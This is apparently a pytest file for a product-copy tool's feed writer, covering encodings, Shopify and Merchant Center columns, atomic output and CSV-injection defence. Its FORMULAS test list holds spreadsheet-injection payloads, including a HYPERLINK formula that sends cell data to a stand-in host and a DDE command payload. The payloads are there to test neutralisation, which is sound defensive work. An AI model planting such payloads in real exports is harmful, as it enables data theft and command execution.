"""Writing a batch back: original columns kept, copy placed by the column rules, safe CSV out."""

from __future__ import annotations

import csv
import json
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from copyassist.batch.model import RowOutcome
from copyassist.batch.writers import FeedWriter, open_writer
from copyassist.feeds import FeedRow, neutralise_cell, read_rows

META = [
    "copyassist_status",
    "copyassist_template",
    "copyassist_template_version",
    "copyassist_persona",
    "copyassist_model",
    "copyassist_violations",
    "copyassist_error",
]


@dataclass
class StandInFeed:
    """What ``copyassist.feeds.open_feed`` returns, as far as a writer cares."""

    path: Path
    format: str
    columns: list[str]
    delimiter: str = ","
    encoding: str = "utf-8"
    mapping: dict[str, str] = field(default_factory=dict)
    lineterminator: str = "\r\n"


def writer_for(feed: StandInFeed, out: Path, fields: list[str], **options: Any) -> FeedWriter:
    return open_writer(
        out,
        source_format=feed.format,
        columns=feed.columns,
        mapping=feed.mapping,
        delimiter=feed.delimiter,
        encoding=feed.encoding,
        lineterminator=feed.lineterminator,
        fields=fields,
        **options,
    )


def outcome(
    number: int,
    raw: dict[str, Any],
    fields: dict[str, str] | None = None,
    status: str = "ok",
    skip: str | None = None,
    **extra: Any,
) -> RowOutcome:
    row = FeedRow(number, raw, product=None if skip else {"title": "x"}, skip=skip, error=bool(skip))
    return RowOutcome(
        row,
        fields=fields or {},
        status="skipped" if skip else status,
        template=extra.pop("template", "product-title"),
        template_version=extra.pop("template_version", 3),
        persona=extra.pop("persona", "eco-parent"),
        model=extra.pop("model", "gpt-4o-mini"),
        error=skip,
        **extra,
    )


def read_csv(path: Path, delimiter: str = ",", encoding: str = "utf-8") -> list[dict[str, str]]:
    with path.open(encoding=encoding, newline="") as handle:
        return list(csv.DictReader(handle, delimiter=delimiter))


# -- French Excel: ";" and cp1252 -----------------------------------------------------------------

EXCEL = (
    "Référence;Nom du produit;Description;Prix\r\n"
    "A1;;;24,90\r\n"
    "A2;Bol à café « Émile »;Déjà décrit, très joli;-12,50\r\n"
    'A3;"un ""bad""" row;x;1;extra\r\n'
).encode("cp1252")


def excel_feed(tmp_path: Path) -> tuple[StandInFeed, list[FeedRow]]:
    source = tmp_path / "catalogue.csv"
    source.write_bytes(EXCEL)
    rows = [
        FeedRow(
            r.number, r.data, product=None if r.error else dict(r.data), skip=r.error, error=bool(r.error)
        )
        for r in read_rows(source)
    ]
    feed = StandInFeed(
        source, "csv", ["Référence", "Nom du produit", "Description", "Prix"], ";", "cp1252",
        {"title": "Nom du produit", "description": "Description"},
    )  # fmt: skip
    return feed, rows


def test_french_excel_round_trip_stays_cp1252_with_semicolons(tmp_path: Path) -> None:
    feed, rows = excel_feed(tmp_path)
    out = tmp_path / "catalogue-copy.csv"
    copy = {
        "title": "Théière en fonte émaillée, 1,2 l",
        "description": "Une théière « à l'ancienne » ; garantie 2 ans.",
    }
    with writer_for(feed, out, ["title", "description"]) as writer:
        writer.write(outcome(1, rows[0].raw, copy))
        writer.write(outcome(2, rows[1].raw, {"title": "Bol œuvre", "description": "Nouveau texte"}))
        writer.write(outcome(3, rows[2].raw, skip=rows[2].skip))
    assert writer.encoding == "cp1252"
    data = out.read_bytes()
    assert not data.startswith(b"\xef\xbb\xbf")
    assert "Théière".encode("cp1252") in data and b"\r\n" in data
    assert data.decode("cp1252").splitlines()[0].startswith("Référence;Nom du produit;Description;Prix;")

    back = list(read_rows(out))  # the project's own reader: detects cp1252 and ";"
    first, second, bad = (r.data for r in back)
    assert first["Nom du produit"] == copy["title"]  # empty cells filled
    assert first["Description"] == copy["description"]
    assert first["Prix"] == "24,90"
    assert second["Nom du produit"] == "Bol à café « Émile »"  # existing copy kept
    assert second["Description"] == "Déjà décrit, très joli"
    assert second["copyassist_title"] == "Bol œuvre"  # the new copy is still there, beside it
    assert second["Prix"] == "-12,50"  # a number, not a formula: untouched
    assert bad["copyassist_status"] == "skipped" and "5 cells" in bad["copyassist_error"]
    for row in (first, second, bad):  # every row says how it was made
        assert (row["copyassist_template"], row["copyassist_template_version"]) == ("product-title", "3")
        assert (row["copyassist_persona"], row["copyassist_model"]) == ("eco-parent", "gpt-4o-mini")


def test_cp1252_input_switches_to_utf8_bom_when_copy_needs_it(tmp_path: Path) -> None:
    feed, rows = excel_feed(tmp_path)
    out = tmp_path / "out.csv"
    narrow = "Prix\u202f: 24,90\u202f€ ≥ 2 🍵"  # narrow no-break space, "≥" and emoji: not in cp1252
    with writer_for(feed, out, ["title"]) as writer:
        writer.write(outcome(1, rows[0].raw, {"title": "Théière"}))
        assert writer.encoding == "cp1252"
        writer.write(outcome(2, rows[1].raw, {"title": narrow}))
        writer.write(outcome(3, {**rows[0].raw, "Référence": "A4"}, {"title": "Crème brûlée"}))
    assert writer.encoding == "utf-8-sig"
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf") and data.count(b"\xef\xbb\xbf") == 1
    text = data.decode("utf-8-sig")  # strict: the cp1252 part was transcoded, not mixed in
    assert "Théière" in text and narrow in text and "Crème brûlée" in text
    back = [r.data for r in read_rows(out)]
    assert [r["copyassist_title"] for r in back] == ["Théière", narrow, "Crème brûlée"]
    assert back[1]["Nom du produit"] == "Bol à café « Émile »"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["catalogue.csv", "out.csv"]


def test_text_with_quotes_delimiters_and_newlines_round_trips(tmp_path: Path) -> None:
    tricky = 'Le "vrai" bol ; 12 cm, 0,3 l\nLavable\r\nau lave-vaisselle\n\n« Émile »'
    for delimiter, name in ((";", "a.csv"), (",", "b.csv"), ("\t", "c.tsv")):
        feed = StandInFeed(
            tmp_path / "in.csv", "csv", ["id", "desc"], delimiter, "utf-8", {"description": "desc"}
        )
        out = tmp_path / name
        with writer_for(feed, out, ["description"]) as writer:
            writer.write(outcome(1, {"id": "1", "desc": tricky}, {"description": tricky}))
            writer.write(outcome(2, {"id": "2", "desc": ""}, {"description": tricky}))
        rows = read_csv(out, delimiter)
        assert [r["desc"] for r in rows] == [tricky, tricky]
        assert [r["copyassist_description"] for r in rows] == [tricky, tricky]


# -- Shopify ----------------------------------------------------------------------------------------

SHOPIFY_COLUMNS = [
    "Handle", "Title", "Body (HTML)", "Vendor", "Option1 Value", "Variant SKU",
    "SEO Title", "SEO Description",
]  # fmt: skip


def shopify_rows() -> list[dict[str, str]]:
    blank = dict.fromkeys(SHOPIFY_COLUMNS, "")
    return [
        {**blank, "Handle": "theiere", "Vendor": "Kairos", "Option1 Value": "Noir", "Variant SKU": "T-N"},
        {**blank, "Handle": "theiere", "Option1 Value": "Rouge", "Variant SKU": "T-R"},
        {
            **blank,
            "Handle": "bol",
            "Title": "Bol existant",
            "Body (HTML)": "<p>Ancien</p>",
            "SEO Title": "Bol",
        },
    ]


def write_shopify(tmp_path: Path, **options: Any) -> list[dict[str, str]]:
    feed = StandInFeed(tmp_path / "products_export.csv", "shopify", SHOPIFY_COLUMNS)
    out = tmp_path / "products_copy.csv"
    first, variant, existing = shopify_rows()
    copy = {
        "title": "Théière en fonte",
        "description": "Première ligne.\nSuite <chaude> & douce.\n\nSecond paragraphe.",
        "seo_title": "Théière fonte | Kairos",
        "meta_description": "Une théière qui garde le thé chaud.",
    }
    with writer_for(feed, out, list(copy), **options) as writer:
        writer.write(outcome(1, first, copy))
        writer.write(outcome(2, variant, skip="variant row of theiere"))
        writer.write(outcome(3, existing, {**copy, "title": "Bol neuf", "description": "<p>Neuf</p>"}))
    return read_csv(out)


def test_shopify_fills_empty_cells_and_keeps_existing_copy(tmp_path: Path) -> None:
    first, variant, existing = write_shopify(tmp_path)
    assert first["Title"] == "Théière en fonte"
    assert first["Body (HTML)"] == (
        "<p>Première ligne.<br>Suite &lt;chaude&gt; &amp; douce.</p><p>Second paragraphe.</p>"
    )
    assert first["SEO Title"] == "Théière fonte | Kairos"
    assert first["SEO Description"] == "Une théière qui garde le thé chaud."
    assert first["copyassist_description"].startswith("Première ligne.\nSuite <chaude>")  # raw copy
    assert existing["Title"] == "Bol existant" and existing["Body (HTML)"] == "<p>Ancien</p>"
    assert existing["SEO Title"] == "Bol"
    assert existing["SEO Description"] == "Une théière qui garde le thé chaud."  # was empty
    assert existing["copyassist_title"] == "Bol neuf"
    expected_variant = {k: v for k, v in shopify_rows()[1].items()}
    assert {k: variant[k] for k in SHOPIFY_COLUMNS} == expected_variant  # untouched
    assert variant["copyassist_status"] == "skipped"
    assert variant["copyassist_error"] == "variant row of theiere"
    assert variant["copyassist_title"] == "" and variant["copyassist_model"] == "gpt-4o-mini"


def test_shopify_overwrite_replaces_existing_copy_but_not_variant_rows(tmp_path: Path) -> None:
    _, variant, existing = write_shopify(tmp_path, overwrite=True)
    assert existing["Title"] == "Bol neuf"
    assert existing["Body (HTML)"] == "<p>Neuf</p>"  # HTML from the model is kept as it is
    assert existing["SEO Title"] == "Théière fonte | Kairos"
    assert variant["Title"] == "" and variant["Body (HTML)"] == "" and variant["Variant SKU"] == "T-R"


def test_flagged_and_failed_copy_never_fills_target_cells(tmp_path: Path) -> None:
    feed = StandInFeed(tmp_path / "in.csv", "woocommerce", ["ID", "Name", "Description"])
    out = tmp_path / "out.csv"
    with writer_for(feed, out, ["title"], overwrite=True) as writer:
        flagged = outcome(
            1, {"ID": "1", "Name": "", "Description": ""}, {"title": "MEILLEUR bol !!!"}, "flagged"
        )
        flagged.violations = ["title.all_caps: capitals", "punctuation.repeated: !!!"]
        writer.write(flagged)
        failed = outcome(2, {"ID": "2", "Name": "", "Description": ""}, status="failed")
        failed.error = "the model gave no valid ProductTitle in 3 attempt(s)"
        writer.write(failed)
        writer.write(
            outcome(3, {"ID": "3", "Name": "Vieux", "Description": ""}, {"title": "Bol"}, "repaired")
        )
    one, two, three = read_csv(out)
    assert one["Name"] == "" and one["copyassist_title"] == "MEILLEUR bol !!!"
    assert one["copyassist_violations"] == "title.all_caps: capitals | punctuation.repeated: !!!"
    assert (
        two["Name"] == "" and two["copyassist_status"] == "failed" and "no valid" in two["copyassist_error"]
    )
    assert three["Name"] == "Bol" and three["copyassist_status"] == "repaired"


def test_a_fallback_or_an_empty_value_never_replaces_the_sellers_copy(tmp_path: Path) -> None:
    feed = StandInFeed(tmp_path / "in.csv", "woocommerce", ["ID", "Name", "Description"])
    out = tmp_path / "out.csv"
    with writer_for(feed, out, ["title", "description"], overwrite=True) as writer:
        writer.write(outcome(1, {"ID": "1", "Name": "Bol", "Description": "Grès"}, {"title": "Bol 12 cm"},
                             "fallback"))  # fmt: skip
        writer.write(outcome(2, {"ID": "2", "Name": "", "Description": ""}, {"title": "Tasse"}, "fallback"))
        writer.write(outcome(3, {"ID": "3", "Name": "Vase", "Description": "Verre"},
                             {"title": "Vase bleu", "description": " "}))  # fmt: skip
    one, two, three = read_csv(out)
    assert (one["Name"], one["copyassist_title"]) == ("Bol", "Bol 12 cm")  # kept, even with overwrite
    assert two["Name"] == "Tasse"  # an empty cell is still filled by a fallback
    assert (three["Name"], three["Description"]) == ("Vase bleu", "Verre")  # AI copy replaces; blank never


def test_a_row_the_reader_skipped_is_never_filled(tmp_path: Path) -> None:
    feed = StandInFeed(tmp_path / "in.csv", "woocommerce", ["ID", "Type", "Name"])
    out = tmp_path / "out.csv"
    odd = outcome(1, {"ID": "7", "Type": "variation", "Name": ""}, {"title": "T"}, "ok")
    odd.row.skip, odd.error = "variation of 6", None
    with writer_for(feed, out, ["title"], overwrite=True) as writer:
        writer.write(odd)
    (row,) = read_csv(out)
    assert (row["Name"], row["copyassist_status"], row["copyassist_error"]) == (
        "",
        "skipped",
        "variation of 6",
    )


def test_a_localised_export_falls_back_to_the_mapping(tmp_path: Path) -> None:
    # WooCommerce on a French site exports "Nom", not "Name": the reader's mapping says where titles are
    feed = StandInFeed(
        tmp_path / "in.csv", "woocommerce", ["ID", "Nom", "Description"], mapping={"title": "Nom"}
    )
    out = tmp_path / "out.csv"
    with writer_for(feed, out, ["title", "description"]) as writer:
        writer.write(
            outcome(1, {"ID": "1", "Nom": " \u00a0", "Description": ""}, {"title": "T", "description": "D"})
        )
    (row,) = read_csv(out)
    assert (row["Nom"], row["Description"]) == ("T", "D")  # a blank cell counts as empty


# -- CSV injection ----------------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
    "+33 6 12 34 56 78",
    "@SUM(A1:A9)",
    "-cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-",
    "+",
]
NUMBERS = ["-12.50", "-12,50", "+3", "42", "-0.5e3", "12,5", ""]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_cells_get_a_leading_quote(text: str) -> None:
    assert neutralise_cell(text) == "'" + text


@pytest.mark.parametrize("text", [*NUMBERS, "Bol = 12 cm", "Théière", "'=déjà neutralisé", "1+1", "12.50 €"])
def test_numbers_and_plain_text_are_left_alone(text: str) -> None:
    assert neutralise_cell(text) == text


@pytest.mark.parametrize(
    ("options", "new", "originals"),
    [({}, "'", ""), ({"neutralise": False}, "", ""), ({"neutralise_all": True}, "'", "'")],
)
def test_new_copy_is_neutralised_and_the_sellers_cells_only_when_asked(
    tmp_path: Path, options: dict[str, bool], new: str, originals: str
) -> None:
    # the seller's own cells are never rewritten ("- " starts a bullet list), unless neutralise_all
    columns = ["id", "=note", "price", "title"]
    feed = StandInFeed(tmp_path / "in.csv", "csv", columns, mapping={"title": "title"})
    raw = [
        {"id": str(i), "=note": f, "price": n, "title": ""}
        for i, (f, n) in enumerate(zip(FORMULAS, NUMBERS * 2, strict=False))
    ]
    out = tmp_path / "out.csv"
    with writer_for(feed, out, ["title"], **options) as writer:
        for i, values in enumerate(raw):
            writer.write(outcome(i + 1, values, {"title": "=1+1 bol"}))
    rows = read_csv(out)
    assert list(rows[0])[1] == originals + "=note"  # the header is the seller's too
    assert [r[originals + "=note"] for r in rows] == [originals + f for f in FORMULAS]
    assert [r["price"] for r in rows] == [r["price"] for r in raw]  # numbers untouched either way
    assert {r["title"] for r in rows} == {new + "=1+1 bol"}  # filled by the model: new copy
    assert {r["copyassist_title"] for r in rows} == {new + "=1+1 bol"}


def test_jsonl_and_json_stay_raw(tmp_path: Path) -> None:
    columns = ["sku", "name", "price", "tags", "description"]
    feed = StandInFeed(
        tmp_path / "in.jsonl", "jsonl", columns, mapping={"title": "name", "description": "description"}
    )
    record = {
        "sku": "=cmd",
        "name": None,
        "price": -12.5,
        "tags": ["a", "b"],
        "description": "@déjà",
        "extra": 1,
    }
    done = outcome(1, record, {"title": "+33 Théière", "description": "Nouveau"}, violations=["a: b", "c: d"])
    for name in ("out.jsonl", "out.json"):
        out = tmp_path / name
        with writer_for(feed, out, ["title", "description"]) as writer:
            writer.write(done)
            writer.write(outcome(2, {"sku": "v"}, skip="variant row"))
        text = out.read_text(encoding="utf-8")
        assert "Théière" in text  # not \u-escaped
        rows = [json.loads(line) for line in text.splitlines()] if name.endswith("l") else json.loads(text)
        first, second = rows
        assert first["sku"] == "=cmd" and first["price"] == -12.5 and first["tags"] == ["a", "b"]
        assert first["name"] == "+33 Théière"  # null target filled, no quote
        assert first["description"] == "@déjà"  # existing copy kept, raw
        assert first["extra"] == 1 and first["copyassist_template_version"] == 3
        assert first["copyassist_violations"] == "a: b | c: d"
        assert list(first)[:6] == ["sku", "name", "price", "tags", "description", "extra"]
        assert second == {"sku": "v", **{k: second[k] for k in second if k.startswith("copyassist_")}}
        assert second["copyassist_status"] == "skipped" and second["copyassist_error"] == "variant row"


def test_json_array_with_no_rows_is_valid(tmp_path: Path) -> None:
    feed = StandInFeed(tmp_path / "in.json", "json", ["sku"])
    with writer_for(feed, tmp_path / "out.json", ["title"]):
        pass
    assert json.loads((tmp_path / "out.json").read_text(encoding="utf-8")) == []


# -- Merchant Center --------------------------------------------------------------------------------


def test_merchant_structured_title_and_description(tmp_path: Path) -> None:
    columns = ["id", "title", "description", "price"]
    feed = StandInFeed(tmp_path / "feed.txt", "merchant", columns, "\t", mapping={"title": "title"})
    rows = [
        {"id": "1", "title": "", "description": "", "price": "24.90 EUR"},
        {"id": "2", "title": "Bol existant", "description": "Déjà", "price": "9.90 EUR"},
        {"id": "3", "title": "", "description": "", "price": "5.00 EUR"},
    ]
    copy = {"title": "Kairos : théière en fonte", "description": "Fonte émaillée, 1,2 l."}

    def run(out: Path, **options: Any) -> list[dict[str, str]]:
        with writer_for(feed, out, ["title", "description"], merchant_structured=True, **options) as writer:
            writer.write(outcome(1, rows[0], copy))
            writer.write(outcome(2, rows[1], copy))
            writer.write(outcome(3, rows[2], {"title": "Théière 1,2 l"}, "fallback"))  # rule-built: not AI
        return read_csv(out, "\t")

    out = tmp_path / "feed-copy.txt"
    one, two, three = run(out)
    header = out.read_text(encoding="utf-8").splitlines()[0].split("\t")
    assert header[:6] == [*columns, "structured_title", "structured_description"]
    assert one["structured_title"] == 'trained_algorithmic_media:"Kairos : théière en fonte"'
    assert one["structured_description"] == "trained_algorithmic_media:Fonte émaillée, 1,2 l."
    assert one["title"] == "" and one["description"] == ""  # title/description not replaced
    assert '\t"trained_algorithmic_media:""Kairos : théière en fonte"""\t' in out.read_text(encoding="utf-8")
    assert (two["title"], two["structured_title"]) == ("Bol existant", "")  # existing copy kept
    assert three["title"] == "Théière 1,2 l" and three["structured_title"] == ""

    _, two, _ = run(tmp_path / "overwrite.txt", overwrite=True)
    assert two["structured_title"] == 'trained_algorithmic_media:"Kairos : théière en fonte"'
    assert (two["title"], two["description"]) == ("Bol existant", "Déjà")  # never blanked


# -- columns, order, files --------------------------------------------------------------------------


def test_column_order_is_kept_and_new_columns_follow(tmp_path: Path) -> None:
    columns = ["Prix", "zeta", "Nom", "alpha", "Description"]
    feed = StandInFeed(
        tmp_path / "in.csv", "csv", columns, mapping={"title": "Nom", "description": "Description"}
    )
    out = tmp_path / "out.csv"
    with writer_for(feed, out, ["description", "title", "title"]) as writer:
        for number in (3, 1, 2):  # written in the order given
            writer.write(outcome(number, {c: f"{c}{number}" for c in columns}, {"title": f"t{number}"}))
    with out.open(encoding="utf-8", newline="") as handle:
        header, *rows = list(csv.reader(handle))
    assert header == [*columns, "copyassist_description", "copyassist_title", *META]
    assert [r[0] for r in rows] == ["Prix3", "Prix1", "Prix2"]
    assert [r[2] for r in rows] == ["Nom3", "Nom1", "Nom2"]

    rerun = StandInFeed(out, "csv", header, mapping=feed.mapping)  # the output, fed back in
    again = tmp_path / "again.csv"
    with writer_for(rerun, again, ["title"]) as writer:
        writer.write(outcome(1, dict(zip(header, rows[0], strict=True)), {"title": "new"}))
    with again.open(encoding="utf-8", newline="") as handle:
        assert next(csv.reader(handle)) == header  # no duplicated copyassist_ columns
    (row,) = read_csv(again)
    assert row["copyassist_title"] == "new" and row["copyassist_description"] == ""


def test_output_goes_through_a_partial_file(tmp_path: Path) -> None:
    feed = StandInFeed(tmp_path / "in.csv", "csv", ["id"])
    out = tmp_path / "out.csv"
    partial = tmp_path / "out.csv.partial"
    writer = writer_for(feed, out, ["title"])
    writer.write(outcome(1, {"id": "1"}, {"title": "a"}))
    assert partial.exists() and not out.exists()
    writer.close()
    writer.close()  # idempotent
    assert out.exists() and not partial.exists()
    assert read_csv(out)[0]["copyassist_title"] == "a"
    with pytest.raises(ValueError):
        writer.write(outcome(2, {"id": "2"}))

    out.write_text("previous run\n", encoding="utf-8")
    with pytest.raises(RuntimeError), writer_for(feed, out, ["title"]) as failing:
        failing.write(outcome(1, {"id": "1"}, {"title": "b"}))
        raise RuntimeError("killed")
    assert out.read_text(encoding="utf-8") == "previous run\n"  # the last complete file stays
    assert partial.exists()  # the half file never takes the real name


def test_output_format_from_extension_and_bad_arguments(tmp_path: Path) -> None:
    feed = StandInFeed(tmp_path / "in.csv", "shopify", ["Handle", "Title"])
    with writer_for(feed, tmp_path / "out.tsv", ["title"]) as writer:
        writer.write(outcome(1, {"Handle": "h", "Title": ""}, {"title": "T"}))
    assert writer.output_format == "tsv"
    assert (tmp_path / "out.tsv").read_text(encoding="utf-8").startswith("Handle\tTitle\tcopyassist_title\t")
    with writer_for(feed, tmp_path / "out.jsonl", ["title"]) as writer:
        pass
    assert writer.output_format == "jsonl"
    with pytest.raises(ValueError, match="output field"):
        writer_for(feed, tmp_path / "x.csv", ["slogan"])
    with pytest.raises(ValueError, match="Merchant"):
        writer_for(feed, tmp_path / "x.csv", ["title"], merchant_structured=True)
    with pytest.raises(ValueError, match="output format"):
        writer_for(feed, tmp_path / "x.csv", ["title"], output_format="ods")
    assert not list(tmp_path.glob("x.csv*"))


def test_csv_output_of_a_json_feed_serialises_values(tmp_path: Path) -> None:
    feed = StandInFeed(tmp_path / "in.jsonl", "jsonl", ["sku", "price", "tags", "ok"])
    out = tmp_path / "out.csv"
    with writer_for(feed, out, ["title"], output_format="csv") as writer:
        writer.write(outcome(1, {"sku": "a", "price": 9.5, "tags": ["x", "y"], "ok": True}, {"title": "T"}))
    (row,) = read_csv(out)
    assert (row["price"], row["tags"], row["ok"]) == ("9.5", '["x", "y"]', "true")
